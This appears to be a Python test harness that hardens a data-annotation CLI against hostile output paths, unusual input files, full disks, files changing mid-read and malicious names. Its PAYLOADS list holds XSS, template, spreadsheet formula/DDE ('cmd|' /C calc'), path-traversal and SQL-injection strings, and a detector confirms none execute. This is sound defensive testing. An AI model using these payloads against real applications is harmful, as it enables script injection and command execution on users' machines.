"""Every command of the program against what surrounds it: outputs, inputs, full disks, names; each in one process.

As root nothing outside the folder of the run is named, for a defect, or ``--force``, would destroy it: devices are made
there, and the folder above is one of the run too.

An attempt is a command that is run in this process. It leaves a traceback where anything but an exit code comes back.
It is a silent error where the exit code does not tell what is on the disk: after a refusal all is as before, after
success the output is there and nothing else changed. It hangs where it takes longer than five minutes.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import html.parser
import io
import json
import os
import resource
import shutil
import signal
import socket
import stat
import sys
import threading
import time
import traceback
import warnings
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np

_SECONDS = 120
_ENDED = (0, 1, 2, 3, 130)
_BLOCK = 1 << 16


class Attempt(NamedTuple):
    """How a command ended: its exit code, None after a traceback or a hang, and what it printed."""

    code: int | None
    out: str
    err: str
    hung: bool = False


class _Late(BaseException):
    pass


def attempt(words: list[str], seconds: int = _SECONDS) -> Attempt:
    """Run a command in this process."""
    from consilience.cli import main

    def late(*told: Any) -> None:
        raise _Late

    out, err = io.TextIOWrapper(io.BytesIO(), "utf-8"), io.StringIO()
    code: int | None = None
    before, hung = signal.signal(signal.SIGALRM, late), False
    signal.alarm(seconds)
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = main(words)
    except _Late:
        hung = True
    except BaseException:
        traceback.print_exc(file=err)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, before)
    out.flush()
    if code not in _ENDED or "Traceback" in err.getvalue():
        code = None
    return Attempt(code, out.buffer.getvalue().decode(errors="replace"), err.getvalue(), hung)  # type: ignore[attr-defined]


class Tally:
    """Counts of attempts, and what was wrong, in words."""

    def __init__(self) -> None:
        self.counts = {"inputs": 0, "refused": 0, "tracebacks": 0, "hangs": 0, "silent errors": 0}
        self.wrong: list[str] = []

    def add(self, what: str, one: Attempt, silent: str | None = None) -> None:
        """Count an attempt; `silent` says what its exit code did not tell."""
        self.counts["inputs"] += 1
        self.counts["refused"] += one.code in (1, 2)
        kind = "hangs" if one.hung else "tracebacks" if one.code is None else "silent errors" if silent else None
        if kind:
            self.counts[kind] += 1
            last = (one.err.strip().splitlines() or [""])[-1]
            self.wrong.append(f"{kind}: {what}: {silent or last}"[:300])

    def row(self, **more: Any) -> dict[str, Any]:
        """Return the columns of the row, and print what was wrong."""
        for line in self.wrong:
            print(line, file=sys.stderr, flush=True)
        return {**self.counts, **more, "wrong": self.wrong[:20]}


# ---- files of each kind, and fits of them ----


def prepare(folder: Path, names: Callable[[str], str] = str) -> None:
    """Write inputs of all commands to a folder, and fits of them; `names` makes names of plain ones."""
    random = np.random.default_rng(0)

    def write(file: str, rows: list[list[Any]]) -> None:
        with open(folder / file, "w", newline="", encoding="utf-8") as stream:
            csv.writer(stream).writerows(rows)

    items, labels = [names(f"i{n}") for n in range(12)], [names(one) for one in ("cat", "dog", "fox")]
    truth = random.integers(0, 3, len(items))
    said = [[item, names(f"a{a}"), labels[truth[n] if random.random() < 0.8 else random.integers(3)]]
            for n, item in enumerate(items) for a in range(4)]  # fmt: skip
    write("labels.csv", [["item", "annotator", "label"], *said])
    write("more.csv", [["item", "annotator", "label"], [items[0], names("a9"), labels[0]]])
    write("system.csv", [["item", "label"], *([item, labels[truth[n]]] for n, item in enumerate(items))])
    shares = [[item, label, 0.8 if code == truth[n] else 0.1] for n, item in enumerate(items)
              for code, label in enumerate(labels)]  # fmt: skip
    write("shares.csv", [["item", "class", "probability"], *shares])
    write("groups.csv", [["class", "group"], *([label, names(f"g{code % 2}")] for code, label in enumerate(labels))])
    verdicts = [[item, names(system), names(judge), ("right", "wrong")[int(random.random() < 0.3)]]
                for item in items for system in ("s1", "s2") for judge in ("x", "y")]  # fmt: skip
    write("verdicts.csv", [["item", "system", "judge", "label"], *verdicts])
    people = [
        [names(f"r{n}"), names(f"n{n // 2 % 9}"), names(f"t{n // 2 % 4}"), names(f"b{n // 2}")] for n in range(40)
    ]
    write("people.csv", [["id", "name", "town", "born"], *people])
    write("others.csv", [["id", "name", "town", "born"], [names("q0"), *people[0][1:]], [names("q1"), *people[3][1:]]])
    write("key.csv", [["record", "entity"], *([one[0], names(f"e{n // 2}")] for n, one in enumerate(people))])
    mentions = [[names(f"m{n}"), names(f"a{a}"), "DN" if n < 2 else f"DO(m{n % 2})", names("doc")]
                for n in range(8) for a in range(3)] if names is str else []  # fmt: skip
    pairs = [[names(f"e{e}"), names(f"s{a}"), names(f"s{b}"), int(a % 2 == b % 2)]
             for e in range(3) for a in range(8) for b in range(a)]  # fmt: skip
    write("pairs.csv", [["expert", "item_a", "item_b", "answer"], *pairs])
    write("features.csv", [["item", "x", "y"], *([names(f"s{n}"), n % 2 + 0.1 * n, 0.2 * n] for n in range(8))])
    write("new.csv", [["item", "x", "y"], [names("z"), 0.1, 0.3]])
    write("mentions.csv", [["mention_id", "annotator_id", "annotation", "document_id"], *mentions])
    (folder / "key.conll").write_text("#begin document d\nd\t0\t(0)\nd\t1\t(0)\n#end document\n")
    (folder / "other.conll").write_text("#begin document d\nd\t0\t(0)\nd\t1\t(1)\n#end document\n")
    made = {
        "run": "fit dirichlet labels.csv --draws 20 -o run", "crowd": "fit dawid-skene labels.csv --draws 20 -o crowd",
        "linked": "link people.csv -o linked",
        "views": "fit expert-views pairs.csv --features features.csv --clusters 2 --views 2 --method cavi -o views",
        "chains": "fit mpa mentions.csv --draws 20 -o chains",
    }  # fmt: skip
    with contextlib.chdir(folder):
        for name, words in made.items():
            if name == "chains" and not mentions:
                continue
            done = attempt([*words.split(), *(["--quiet"] if "link" not in words else [])], 900)  # it compiles
            if done.code not in (0, 3):
                raise RuntimeError(f"{words}: {done.err}")


# With {} in the place of the output. Commands without one, that only print, are among `_PRINT`.
WRITE = {
    "fit": "fit dirichlet labels.csv --draws 20 --quiet -o {}",
    "fit gibbs": "fit dawid-skene labels.csv --method gibbs --draws 20 --warmup 20 --chains 2 --quiet -o {}",
    "code": "code labels.csv --shards 2 --into {}", "update": "update crowd more.csv --quiet -o {}",
    "table": "table crowd --csv {}", "certainty": "certainty run --map groups.csv --csv {}",
    "next": "next run --csv {}", "predict": "predict views new.csv --csv {}",
    "evaluate": "evaluate run --predictions system.csv --csv {}", "conformal": "conformal run shares.csv --csv {}",
    "verdicts": "verdicts verdicts.csv --csv {}", "agreement": "agreement labels.csv --csv {}",
    "agreement page": "agreement labels.csv -o {}", "chains": "chains chains --csv {}",
    "chains conll": "chains chains --to conll -o {}", "score": "score key.csv key.csv --csv {}",
    "score chains": "score key.conll other.conll --csv {}", "link": "link people.csv --quiet -o {}",
    "review": "review linked -o {}", "link-new": "link-new linked others.csv -o {}",
    "simulate records": "simulate records --records 20 -o {}",
    "simulate mentions": "simulate mentions key.conll --scenario synthetic-uniform -o {}",
    "report": "report run --predictions system.csv -o {}", "data": "data example {}",
}  # fmt: skip
# What takes long is tried only where it is to be refused; it has the writer of pages in common with `report`.
LATE = {"demo": "demo -o {}"}
PRINT = {
    "compare": "compare run system.csv --names one", "models": "models", "data list": "data list", "cite": "cite mace",
}  # fmt: skip
_FOLDERS = ("fit", "fit gibbs", "code", "update", "link", "data")


_NEW = ("new", "-x", "a\nb", "\udcff", "new/")


def _state(folder: Path) -> dict[str, tuple[Any, ...]]:
    """Return what is in a folder: kind, permissions and content of each."""
    found = {}
    for place, folders, files in os.walk(folder):
        for name in [*folders, *files]:
            path = os.path.join(place, name)
            known = os.lstat(path)
            content = ""
            if stat.S_ISREG(known.st_mode) and os.access(path, os.R_OK):
                with open(path, "rb") as stream:
                    content = hashlib.file_digest(stream, "sha256").hexdigest()
            elif stat.S_ISLNK(known.st_mode):
                content = os.readlink(path)
            found[os.path.relpath(path, folder)] = (known.st_mode, known.st_ino, content)
    return found


def _places(folder: Path) -> list[str]:
    """Make one of everything that may be at the path of an output, and return their names."""
    (folder / "foreign").write_text("work")
    (folder / "link").symlink_to("foreign")
    (folder / "dangling").symlink_to("nowhere")
    (folder / "loop").symlink_to("loop")
    os.mkfifo(folder / "fifo")
    with socket.socket(socket.AF_UNIX) as one:
        one.bind(str(folder / "socket"))
    (folder / "folder").mkdir()
    (folder / "folder" / "thesis").write_text("work")
    (folder / "closed").mkdir()
    (folder / "closed" / "inside").write_text("work")
    (folder / "closed").chmod(0o555)
    (folder / "kept").write_text("work")
    (folder / "kept").chmod(0o444)
    (folder / "unseen").mkdir()
    (folder / "unseen").chmod(0)
    os.link(folder / "labels.csv", folder / "hard")
    if os.geteuid() == 0:
        for name, minor in (("null", 3), ("zero", 5), ("full", 7)):
            os.mknod(folder / name, 0o666 | stat.S_IFCHR, os.makedev(1, minor))
        around = ["null", "zero", "full"]
    else:
        around = [
            "/",
            "/dev/null",
            "/dev/full",
            "/dev/zero",
            "/dev/stdout",
            "/proc/self/mem",
            "/proc/new",
            "/etc/passwd",
        ]
    return [
        *around,
        "foreign", "link", "dangling", "loop", "fifo", "socket", "folder", "folder/", "closed/new", "kept",
        "unseen/new", "hard", "labels.csv", "run", "run/fit.json", "linked", "no/new", "foreign/new", "new/", "", ".",
        "..", "n" * 300, "a\0b", "a\nb", "\udcff", "-x", "new",
    ]  # fmt: skip


@contextlib.contextmanager
def _worn(folder: Path) -> Iterator[None]:
    with contextlib.chdir(folder):
        yield


def _write(words: str, output: str) -> list[str]:
    return [output if word == "{}" else word for word in words.split()]


def outputs(made: Path) -> dict[str, Any]:
    """Try every command with its output at every place, with and without ``--force``."""
    tally = Tally()
    around = made.parent / f"outputs-{os.geteuid()}"
    around.mkdir()
    base = around / "base"
    shutil.copytree(made, base)
    places = _places(base)
    before = _state(base)
    with _worn(base):
        for name, words in (WRITE | LATE).items():
            for place in places:
                for force in ([], ["--force"]):
                    if name in LATE and (force or place in (*_NEW, "closed/new", "unseen/new", "kept")):
                        continue
                    if (
                        name not in ("fit", "table", "report") and place in _NEW[1:]
                    ):  # one writer of files, one of folders
                        continue
                    if force and name not in ("fit", "table", "link") and place in _NEW:
                        continue
                    one = attempt([*_write(words, place), *force])
                    after = _state(base)
                    for path in around.iterdir():
                        if path != base and place == "..":  # to write there by force is what was asked for
                            shutil.rmtree(path) if path.is_dir() else path.unlink()
                            after[f"../{path.name}"] = ()
                    changed = {path for path in before.keys() | after.keys() if before.get(path) != after.get(path)}
                    silent = _unsaid(one, place, changed, bool(force), name)
                    tally.add(f"{name} {place!r} {' '.join(force)}", one, silent)
                    if changed:
                        _restore(base, made, places)
                        before = _state(base)
    return tally.row()


def _unsaid(one: Attempt, place: str, changed: set[str], force: bool, name: str) -> str | None:
    own = os.path.normpath(place) if place else "."
    others = {path for path in changed if own != "." and path != own and not path.startswith(own + os.sep)}
    if one.code in (1, 2, None):
        return f"refused, and changed {sorted(changed)[:3]}" if changed else None
    if others:
        return f"changed {sorted(others)[:3]} too"
    if not changed:
        return "success, and nothing was written"
    # Files of others inside a folder that is written to by force are not looked for: they are `others` of its files.
    # Sample files may go beside others, of other names.
    if (
        not force
        and name != "data"
        and place in ("foreign", "kept", "hard", "labels.csv", "folder", "folder/", "run", "linked")
    ):
        return "replaced what was there without --force"
    return None


def _restore(base: Path, made: Path, places: list[str]) -> None:
    for path in base.iterdir():
        if path.is_dir() and not path.is_symlink():
            with contextlib.suppress(OSError):
                path.chmod(0o755)
            shutil.rmtree(path)
        else:
            path.unlink()
    shutil.copytree(made, base, dirs_exist_ok=True)
    _places(base)


# ---- disks that are full ----


def full(made: Path, disk: str) -> dict[str, Any]:
    """Try every command with a limit for the size of files, and on a small disk where one is given."""
    tally = Tally()
    base = made.parent / f"full-{os.geteuid()}"
    shutil.copytree(made, base)
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with _worn(base):
        for name, words in WRITE.items():
            if disk:
                tally.add(f"{name} on a full disk", *_refused(base, words, f"{disk}/new", Path(disk)))
            resource.setrlimit(resource.RLIMIT_FSIZE, (30, resource.RLIM_INFINITY))
            try:
                tally.add(f"{name}, 30 bytes a file", *_refused(base, words, "new", base))
            finally:
                resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            for path in base.glob("new*"):
                shutil.rmtree(path) if path.is_dir() else path.unlink()
        for name, words in (WRITE | PRINT).items():
            if "{}" in words and name in _FOLDERS:
                continue
            tally.add(f"{name} to /dev/full", *_to_full(_write(words, "-")))
    return tally.row(disk="tmpfs of 16 kB" if disk else "none")


def _refused(base: Path, words: str, target: str, where: Path) -> tuple[Attempt, str | None]:
    before = _state(where)
    one = attempt(_write(words, target))
    after = _state(where)
    new = sorted(after.keys() - before.keys())
    if one.code in (0, 3):
        return one, "success on a full disk"
    torn = [path for path in new if not os.path.isdir(where / path)]
    return one, f"left {torn[:3]}" if torn else None


def _to_full(words: list[str]) -> tuple[Attempt, str | None]:
    from consilience.cli import main

    err, code = io.StringIO(), None
    with open("/dev/full", "w") as device:
        try:
            with contextlib.redirect_stdout(device), contextlib.redirect_stderr(err):
                code = main(words)
        except BaseException:
            traceback.print_exc(file=err)
        with contextlib.suppress(OSError):
            device.close()
    return Attempt(code, "", err.getvalue()), "success" if code in (0, 3) else None


# ---- inputs that are no files, or change ----


def inputs(made: Path) -> dict[str, Any]:
    """Try every command with each of its inputs in turn as a FIFO, a device, a folder, a torn or a forbidden file."""
    tally = Tally()
    base = made.parent / f"inputs-{os.geteuid()}"
    shutil.copytree(made, base)
    with _worn(base):
        os.mkfifo("fifo.csv")
        os.mkfifo("fifo.conll")
        Path("zero.csv").symlink_to("/dev/zero")
        Path("mem.csv").symlink_to("/proc/self/mem")
        Path("tty.csv").symlink_to("/dev/tty")
        Path("loop.csv").symlink_to("loop.csv")
        Path("folder.csv").mkdir()
        Path("empty.csv").write_text("")
        Path("torn.csv.gz").write_bytes(b"\x1f\x8b\x08\x00half")
        Path("bytes.csv").write_bytes(bytes(range(256)))
        Path("forbidden.csv").write_text("item,annotator,label\na,b,c\n")
        Path("forbidden.csv").chmod(0)
        strange = sorted(path.name for path in base.iterdir() if path.name.split(".")[0] in (
            "fifo", "zero", "mem", "tty", "loop", "folder", "empty", "torn", "bytes", "forbidden"))  # fmt: skip
        strange += ["/dev/stdin", "/dev/fd/99", ".", "nowhere.csv", "n" * 300 + ".csv", "a\0b.csv", "\udcff.csv"]
        for words in (WRITE | PRINT).values():
            given = words.replace("{}", "new").split()
            places = [n for n, word in enumerate(given) if n and (base / word).exists() and given[n - 1] != "-o"]
            for at in places:
                for one in strange:
                    changed = [*given[:at], one, *given[at + 1 :]]
                    with _opened(one):
                        done = attempt(changed)
                    read = one == "forbidden.csv" and os.geteuid() == 0
                    silent = "read what is no table" if done.code in (0, 3) and not read else None
                    tally.add(f"{' '.join(changed)!r}", done, silent)
                    for path in base.glob("new*"):
                        if path.name != "new.csv":
                            shutil.rmtree(path) if path.is_dir() else path.unlink()
    return tally.row()


@contextlib.contextmanager
def _opened(name: str) -> Iterator[None]:
    """Have somebody open and close a FIFO whenever it is read: of one that nobody writes to all would wait, rightly."""
    done = threading.Event()

    def open_and_close() -> None:
        while not done.wait(0.01):
            with contextlib.suppress(OSError):  # nobody reads it yet
                os.close(os.open(name, os.O_WRONLY | os.O_NONBLOCK))

    if not name.startswith("fifo"):
        yield
        return
    other = threading.Thread(target=open_and_close)
    other.start()
    try:
        yield
    finally:
        done.set()
        other.join()


def changing(made: Path, number: int) -> dict[str, Any]:
    """Read files while somebody replaces them, or writes over them; what is read is one of the versions, or refused."""
    import consilience as cs
    from consilience.errors import ConsilienceError

    tally = Tally()
    base = made.parent / f"changing-{os.geteuid()}"
    base.mkdir()
    texts = ["item,annotator,label\n" + "".join(f"i{n % 4000},a{n % 7},{label}\n" for n in range(rows))
             for label, rows in (("old", 30_000), ("newer", 20_000))]  # fmt: skip
    whole, random = set(), np.random.default_rng(2)
    # What the file holds at one time or another, while it is appended to.
    for part in [text[:end] for text in texts for end in (None, _BLOCK, 2 * _BLOCK, 3 * _BLOCK)]:
        (base / "table.csv").write_text(part)
        with contextlib.suppress(ConsilienceError), warnings.catch_warnings():
            warnings.simplefilter("ignore")
            whole.add(cs.read_annotations(base / "table.csv", duplicates="keep").fingerprint())
    for way in ("replaced", "written over", "appended to"):
        stop = threading.Event()

        def change(way: str = way, stop: threading.Event = stop) -> None:
            for n in range(10**9):
                if stop.is_set():
                    return
                text = texts[n % 2]
                if way == "replaced":
                    (base / "next").write_text(text)
                    os.replace(base / "next", base / "table.csv")
                else:
                    size = len(text) if way == "written over" else _BLOCK
                    file = os.open(base / "table.csv", os.O_WRONLY | os.O_TRUNC)
                    for start in range(0, len(text), size):
                        os.write(file, text[start : start + size].encode())
                    os.close(file)
                time.sleep(0.2 * random.random())

        other = threading.Thread(target=change)
        other.start()
        try:
            for _ in range(number):
                code, err, silent = 0, "", None
                try:
                    with warnings.catch_warnings():
                        warnings.simplefilter("ignore")
                        found = cs.read_annotations(base / "table.csv", duplicates="keep").fingerprint()
                    silent = None if found in whole else "read a mixture"
                except ConsilienceError as error:
                    code, err = 1, str(error)
                except Exception:
                    code, err = None, traceback.format_exc()
                tally.add(f"a file that is {way}", Attempt(code, "", err), silent)
        finally:
            stop.set()
            other.join()
    return tally.row()


# ---- names that try to be something else ----

PAYLOADS = {
    "script": "<script>window.hit=1</script>", "image": "<img src=x onerror=window.hit=1>",
    "attribute": "\" onmouseover=\"window.hit=1\" x=\"", "svg": "</svg><script>window.hit=1</script>",
    "style": "</style><script>window.hit=1</script>", "comment": "--><script>window.hit=1</script><!--",
    "template": "{{ 7*7 }}{% raw %}${7*7}", "entity": "&lt;b&gt;&#60;script&#62;", "link": "javascript:window.hit=1",
    "formula": "=1+1", "call": "=HYPERLINK(\"http://x.invalid/?\"&A1;\"x\")", "command": "-cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0", "plus": "+1+cmd", "tab": "\t=1+1", "wide": "＝1+1",
    "path": "../../escaped", "absolute": "/tmp/escaped", "drive": "C:\\escaped", "device": "CON",
    "mathtext": "$\\frac{1}{$", "percent": "%s%n{0}", "terminal": "\x1b]0;hit\x07\x1b[31m", "turned": "\u202eoked",
    "null-like": "nan", "quote": "'; DROP TABLE raw; --", "long": "w" * 5000,
}  # fmt: skip


class _Elements(html.parser.HTMLParser):
    """Counts elements and their attributes; what is in a payload would add some."""

    def __init__(self) -> None:
        super().__init__()
        self.counts: dict[str, int] = {}
        self.hits: list[str] = []

    def handle_starttag(self, tag: str, attributes: Any) -> None:
        """Count a tag, and remember what a payload would have added."""
        self.counts[tag] = self.counts.get(tag, 0) + 1
        for name, value in attributes:
            if (
                name.startswith("on")
                or "window.hit" in (value or "")
                and name in ("href", "src", "xlink:href", "style")
            ):
                self.hits.append(f"<{tag} {name}={value!r}>"[:80])
        self._within = tag

    def handle_data(self, data: str) -> None:
        """Remember a payload within a script or a style."""
        if "window.hit" in data and getattr(self, "_within", "") in ("script", "style"):
            self.hits.append(f"in <{self._within}>")

    def handle_endtag(self, tag: str) -> None:
        """Leave an element."""
        self._within = ""


def formulas(text: str) -> list[str]:
    """Return the cells of a CSV file that a spreadsheet would take for formulas: written by rules of its own."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            bare = cell.strip()
            with contextlib.suppress(ValueError):
                float(bare)
                continue
            if bare[:1] in set("=+-@＝＋－＠") and any(one.isalnum() for one in bare):
                found.append(cell)
    return found


def names(made: Path, browser: str) -> dict[str, Any]:
    """Give ids, labels and systems each payload as a name; look at every page, table and file that comes of it."""
    tally, executed, cells = Tally(), 0, 0
    base = made.parent / f"names-{os.geteuid()}"
    base.mkdir()
    pages: list[Path] = []
    around = {path.name for path in Path("/tmp").iterdir()} | set(os.listdir(base.parent))
    kinds = list(PAYLOADS)
    for start in range(0, len(kinds), 9):
        kind = f"{kinds[start]} and others"
        own = base / f"{start}"
        own.mkdir()

        def named(plain: str, start: int = start) -> str:
            return PAYLOADS[kinds[(zlib.crc32(plain.encode()) + start) % len(kinds)]] + plain

        prepare(own, named)
        before = _state(own)
        with _worn(own):
            for name, words in {**WRITE, **_PAGES}.items():
                if name.startswith(
                    ("chains", "simulate", "data", "fit", "code", "score chains", "link")
                ) and name not in ("link-new",):
                    continue
                table = "--csv" in words or name in ("review", "link-new")
                target = f"out-{name.replace(' ', '-')}{'.csv' if table else '.html'}"
                one = attempt(_write(words, target))
                silent = None
                if one.code in (0, 3) and Path(target).is_file():
                    text = Path(target).read_text(encoding="utf-8")
                    if text.startswith("<!DOCTYPE"):
                        looked = _Elements()
                        looked.feed(text)
                        executed += len(looked.hits)
                        silent = f"ran {looked.hits[:2]}" if looked.hits else None
                        pages.append(own / target)
                    else:
                        run = formulas(text)
                        cells += len(text.splitlines())
                        executed += len(run)
                        silent = f"a formula {run[0]!r}" if run else None
                if "\x1b" in one.out + one.err and one.code is not None:
                    silent = silent or "wrote an escape sequence to the terminal"
                tally.add(f"{name} with {kind}", one, silent)
            changed = {path for path, known in before.items() if _state(own).get(path) != known}
            if changed:
                tally.add(kind, Attempt(0, "", ""), f"changed {sorted(changed)[:2]}")
            again = attempt(["evaluate", "run", "--predictions", "out-table.csv"])  # what was written is read as it was
            tally.add(f"reading the table again with {kind}", again, None if again.code == 0 else again.err.strip())
    escaped = ({path.name for path in Path("/tmp").iterdir()} | set(os.listdir(base.parent))) - around - {base.name}
    if "escaped" in escaped:
        tally.add("paths", Attempt(0, "", ""), "a file outside its folder")
    hits = _in_browser(browser, pages) if browser else None
    return tally.row(**{
        "payloads": len(PAYLOADS), "pages": len(pages), "rows of tables": cells, "executed": executed,
        "executed in a browser": hits,
    })  # fmt: skip


_PAGES = {
    "page of the crowd": "report crowd --predictions system.csv --title x -o {}", "page of views": "report views -o {}",
    "page of links": "report linked -o {}", "table of entities": "table linked entities --csv {}",
    "table of annotators": "table crowd annotators --csv {}", "table of views": "table views views --csv {}",
}  # fmt: skip


def _in_browser(browser: str, pages: list[Path]) -> int:
    """Count the pages in which a browser ran a payload, with the policy in the head of the page taken out."""
    import subprocess

    hits = 0
    for page in pages:
        bare = page.with_suffix(".bare.html")
        text = page.read_text(encoding="utf-8").replace("Content-Security-Policy", "X-None")
        bare.write_text(text + "<script>document.title=window.hit?'HIT':'calm'</script>", encoding="utf-8")
        done = subprocess.run(
            [browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync",
             "--disable-background-networking", "--disable-component-update", f"--user-data-dir={page.parent}/browser",
             "--dump-dom", bare.as_uri()], capture_output=True, text=True, timeout=120,
        )  # fmt: skip
        if "<title>calm</title>" not in done.stdout and "<title>HIT" not in done.stdout:
            raise RuntimeError(f"the browser did not show {page}: {done.stderr[-300:]}")
        hits += "<title>HIT" in done.stdout
    return hits


def main(words: list[str]) -> None:
    """Run a part, and print its row."""
    part, made, *more = words
    parts: dict[str, Callable[[], dict[str, Any]]] = {
        "prepare": lambda: prepare(Path(made)) or {}, "outputs": lambda: outputs(Path(made)),
        "full": lambda: full(Path(made), more[0]), "inputs": lambda: inputs(Path(made)),
        "changing": lambda: changing(Path(made), int(more[0])), "names": lambda: names(Path(made), more[0]),
    }  # fmt: skip
    print(json.dumps(parts[part]()))


if __name__ == "__main__":
    main(sys.argv[1:])
